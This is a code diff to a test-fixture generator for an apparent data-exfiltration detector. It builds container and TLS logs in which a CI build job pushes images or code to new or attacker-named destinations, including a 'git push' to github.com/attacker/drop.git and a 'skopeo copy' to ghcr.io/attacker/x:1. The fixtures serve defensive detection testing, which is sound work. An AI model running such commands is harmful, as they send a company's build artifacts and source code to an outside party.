@@ -298,46 +298,92 @@ sanctioned:
         seconds: 12,
       },
     ];
-    const push = (scenario, draw, at, to, name) => {
-      tls(draw, scenario, [{ at: at + 4, from, to, name, sent: 80 * MB, received: 90 * KB, seconds: 12 }]);
-      const labels = {};
-      const job = {
-        uid: containerUid(draw),
-        name: 'ci-build',
-        image: 'shop/builder:4',
-        labels,
-        ip: from,
-        startedAt: DAY_0 - DAY,
-        command: ['sleep', 'infinity'],
-      };
-      write(CODE, scenario, 'inspect.json', `${JSON.stringify([inspectOf(job)], null, 1)}\n`);
-      const command = `skopeo copy docker-archive:/build/app.tar docker://${name}/shop/app:15`;
-      write(
-        CODE,
-        scenario,
-        'engine-events.ndjson',
-        engineLines([
-          engineEvent(job, `exec_create: ${command}`, at),
-          engineEvent(job, `exec_start: ${command}`, at),
-        ]),
-      );
+    const jobOf = (draw, name, ip, startedAt) => ({
+      uid: containerUid(draw),
+      name,
+      image: 'shop/builder:4',
+      labels: {},
+      ip,
+      startedAt,
+      command: ['sleep', 'infinity'],
+    });
+    const told = (job, at, command) => [
+      engineEvent(job, `exec_create: ${command}`, at),
+      engineEvent(job, `exec_start: ${command}`, at),
+    ];
+    const copyTo = (place) => `skopeo copy docker-archive:/build/app.tar docker://${place}`;
+    const about = (scenario, ...jobs) => {
+      write(CODE, scenario, 'inspect.json', `${JSON.stringify(jobs.map(inspectOf), null, 1)}\n`);
       write(CODE, scenario, 'stowaway.yaml', config);
     };
+    const sending = (at, to, name, source = from) => ({
+      ...{ at: at + 4, from: source, to, name, sent: 80 * MB, received: 90 * KB, seconds: 12 },
+    });
+    const push = (scenario, draw, at, to, name, command = copyTo(`${name}/shop/app:15`)) => {
+      tls(draw, scenario, [sending(at, to, name)]);
+      const job = jobOf(draw, 'ci-build', from, DAY_0 - DAY);
+      about(scenario, job);
+      write(CODE, scenario, 'engine-events.ndjson', engineLines(told(job, at, command)));
+      return job;
+    };
     const last = DAY_0 + 14 * DAY + 2 * HOUR;
-    for (const [scenario, to, name] of [
-      ['quiet-build-job-where-it-always-pushes', '203.0.113.36', 'ghcr.io'],
+    const nights = (draw, count) => range(count).flatMap((day) => night(draw, day));
+    const ghcr = ['203.0.113.36', 'ghcr.io'];
+    const github = ['203.0.113.32', 'github.com'];
+    for (const [scenario, to, name, command, commandBefore] of [
+      ['quiet-build-job-where-it-always-pushes', ...ghcr],
       ['fires-on-build-job-that-pushes-somewhere-new', '203.0.113.37', 'ttl.sh'],
+      [
+        'fires-on-build-job-that-pushes-where-it-only-cloned',
+        ...github,
+        'git push https://x:y@github.com/attacker/drop.git HEAD:main',
+      ],
+      [
+        'fires-on-build-job-that-pushes-to-another-repository',
+        ...ghcr,
+        copyTo('ghcr.io/attacker/x:1'),
+        copyTo('ghcr.io/shop/app:14'),
+      ],
+      ['misses-other-repository-where-commands-are-new', ...ghcr, copyTo('ghcr.io/attacker/x:1')],
     ]) {
       const draw = drawing('build-job');
-      tls(
-        draw,
-        scenario,
-        range(14).flatMap((day) => night(draw, day)),
-        'baseline/',
-      );
-      push(scenario, draw, last, to, name);
+      tls(draw, scenario, nights(draw, 14), 'baseline/');
+      const job = push(scenario, draw, last, to, name, command);
+      if (commandBefore)
+        write(
+          CODE,
+          scenario,
+          'baseline/engine-events.ndjson',
+          engineLines(told(job, DAY_0 + 13 * DAY + 2 * HOUR + 296, commandBefore)),
+        );
     }
     push('misses-build-job-on-its-first-day', drawing('first-day'), DAY_0 + HOUR, '203.0.113.37', 'ttl.sh');
+
+    const report = 'quiet-report-after-a-clone';
+    push(
+      report,
+      drawing(report),
+      last,
+      '203.0.113.38',
+      'files.customer.example',
+      'git clone https://github.com/shop/app.git',
+    );
+
+    // All in one log, without a baseline.
+    const newPlace = 'fires-on-new-place-of-a-build-job-seen-from-its-first-push';
+    const draw = drawing(newPlace);
+    tls(draw, newPlace, [...nights(draw, 6), sending(DAY_0 + 4 * DAY + 7 * HOUR, '203.0.113.37', 'ttl.sh')]);
+    about(newPlace, jobOf(draw, 'ci-build', from, DAY_0 - DAY));
+    for (const [scenario, to, name] of [
+      ['fires-on-new-container-under-the-name-of-a-build-job', '203.0.113.37', 'ttl.sh'],
+      ['quiet-new-runner-where-the-others-push', ...ghcr],
+    ]) {
+      const draw = drawing(scenario);
+      const at = DAY_0 + 6 * DAY + 2 * HOUR;
+      tls(draw, scenario, [...nights(draw, 6), sending(at, to, name, '10.20.0.84')]);
+      const runner = jobOf(draw, 'ci-x', '10.20.0.84', at - 600);
+      about(scenario, jobOf(draw, 'ci-build', from, DAY_0 - DAY), runner);
+    }
   }
 
   for (const make of [gitPush, plainClient, listedHost, unknownHost, withoutCounters, buildJob]) make();
